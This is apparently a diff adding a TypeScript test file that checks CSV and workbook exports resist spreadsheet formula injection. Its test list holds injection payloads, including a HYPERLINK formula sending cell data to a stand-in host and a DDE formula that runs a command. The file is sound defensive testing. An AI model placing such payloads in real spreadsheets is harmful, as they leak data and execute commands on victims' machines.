@@ -1,0 +1,139 @@
+import { Readable } from 'node:stream';
+import { text } from 'node:stream/consumers';
+import fc from 'fast-check';
+import { strFromU8, unzipSync } from 'fflate';
+import { describe, expect, it } from 'vitest';
+import { csvStream, xlsxBuffer, type Cell } from './tables.ts';
+
+/** What a spreadsheet program may take for a formula, a command or a new cell, and answers that look like it. */
+const dangerous = [
+  '-x+1',
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '=HYPERLINK("https://evil.example?x="&A1,"more")',
+  "=cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  "'=1+1",
+  "''-x",
+  '＝1+1',
+  '－x',
+  'a\r\n=1+1',
+  'a","=1+1',
+  'a;=1+1',
+  '"=1+1"',
+  '<b>&amp;"\'</b>',
+  '',
+  ' ',
+  "O'Brien",
+  '王小明 🎓',
+  '1e9',
+  '٣',
+];
+
+async function* rowsOf(rows: readonly (readonly Cell[])[]) {
+  yield* rows;
+}
+
+/** Fields of RFC 4180, as a program reads them that knows nothing of us. */
+function parseCsv(file: string): string[][] {
+  const rows: string[][] = [[]];
+  const field = /(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n|$)/gy;
+  const content = file.replace(/^\uFEFF/, '');
+  while (field.lastIndex < content.length) {
+    const [, quoted, plain = '', end] = field.exec(content) ?? [];
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
+    if (end === '\r\n') rows.push([]);
+  }
+  if (rows.at(-1)?.length === 0) rows.pop();
+  return rows;
+}
+
+/** The rule of the file: one apostrophe before what looks like a formula was not typed. */
+const asTyped = (field: string) => field.replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/, '');
+
+const decoded = (xml: string) =>
+  xml.replaceAll(/&(lt|gt|quot|apos|amp|#(\d+)|#x([\da-f]+));/gi, (_, name: string, decimal?: string, hex?: string) =>
+    decimal || hex
+      ? String.fromCodePoint(Number.parseInt(decimal ?? hex ?? '', decimal ? 10 : 16))
+      : ({ lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' }[name] ?? ''),
+  );
+
+interface SheetCell {
+  readonly type: string;
+  readonly isFormula: boolean;
+  readonly value: string;
+}
+
+/** The cells of the first sheet with their types, as they stand in the file. */
+function readXlsx(file: Buffer): { cells: SheetCell[]; parts: Record<string, string> } {
+  const parts = Object.fromEntries(Object.entries(unzipSync(file)).map(([name, bytes]) => [name, strFromU8(bytes)]));
+  const shared = [...(parts['xl/sharedStrings.xml'] ?? '').matchAll(/<si>(.*?)<\/si>/gs)].map(([, item = '']) =>
+    [...item.matchAll(/<t[^>]*>(.*?)<\/t>/gs)].map(([, part = '']) => decoded(part)).join(''),
+  );
+  const sheet = parts['xl/worksheets/sheet1.xml'] ?? '';
+  const cells = [...sheet.matchAll(/<c\b([^>]*?)(?:\/>|>(.*?)<\/c>)/gs)].map(([, attributes = '', inner = '']) => {
+    const type = /\bt="(\w+)"/.exec(attributes)?.[1] ?? 'n';
+    const raw = decoded(/<(?:v|t)\b[^>]*>(.*?)<\/(?:v|t)>/s.exec(inner)?.[1] ?? '');
+    return { type, isFormula: /<f\b/.test(inner), value: type === 's' ? (shared[Number(raw)] ?? '') : raw };
+  });
+  return { cells, parts };
+}
+
+const writeCsv = (rows: readonly (readonly Cell[])[]) => text(csvStream(rowsOf(rows)) as Readable);
+const typed = fc.oneof(
+  fc.constantFrom(...dangerous),
+  fc.string({ unit: fc.constantFrom(...'\'=+-@,;"\t\r\n x1') }),
+  fc.string(),
+);
+
+describe('a CSV file that is opened again [SC16]', () => {
+  it('has no field that a program takes for a formula, and as many fields as were written', async () => {
+    const fields = parseCsv(await writeCsv([dangerous, dangerous]));
+    expect(fields.map((row) => row.length)).toEqual([dangerous.length, dangerous.length]);
+    for (const field of fields.flat()) expect(field).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
+  });
+
+  it('gives every text back as it was typed', async () => {
+    const [row] = parseCsv(await writeCsv([dangerous]));
+    expect(row?.map(asTyped)).toEqual(dangerous);
+    await fc.assert(
+      fc.asyncProperty(fc.array(typed, { minLength: 2, maxLength: 4 }), async (texts) => {
+        const [read] = parseCsv(await writeCsv([texts]));
+        expect(read?.map(asTyped)).toEqual(texts);
+      }),
+      { seed: 20_261_121, numRuns: 300 },
+    );
+  });
+
+  it('leaves numbers numbers, negative ones too', async () => {
+    expect(parseCsv(await writeCsv([[-1, 2.5, null]]))).toEqual([['-1', '2.5', '']]);
+  });
+});
+
+describe('a workbook that is opened again [SC16]', () => {
+  it('has texts typed as texts, with what was typed, and numbers as numbers', async () => {
+    const shown = dangerous.filter((one) => one.trim() !== '');
+    const { cells } = readXlsx(await xlsxBuffer(rowsOf([['Head'], shown, [-1, 2.5]])));
+    const [, ...rest] = cells;
+    const texts = rest.slice(0, shown.length);
+    expect(texts.map(({ value }) => value.replaceAll('\r\n', '\n').trim())).toEqual(
+      shown.map((one) => one.replaceAll('\r\n', '\n').trim()),
+    );
+    for (const { type, isFormula } of texts)
+      expect([['s', 'str', 'inlineStr'].includes(type), isFormula]).toEqual([true, false]);
+    expect(rest.slice(shown.length).map(({ type, value }) => [type, value])).toEqual([
+      ['n', '-1'],
+      ['n', '2.5'],
+    ]);
+  });
+
+  it('holds no formula, link, macro or connection at all', async () => {
+    const { parts } = readXlsx(await xlsxBuffer(rowsOf([['Head'], dangerous])));
+    expect(Object.keys(parts).filter((name) => /vba|external|connections|embeddings/i.test(name))).toEqual([]);
+    expect(parts['xl/worksheets/sheet1.xml']).not.toMatch(/<f\b|<hyperlink/);
+  });
+});
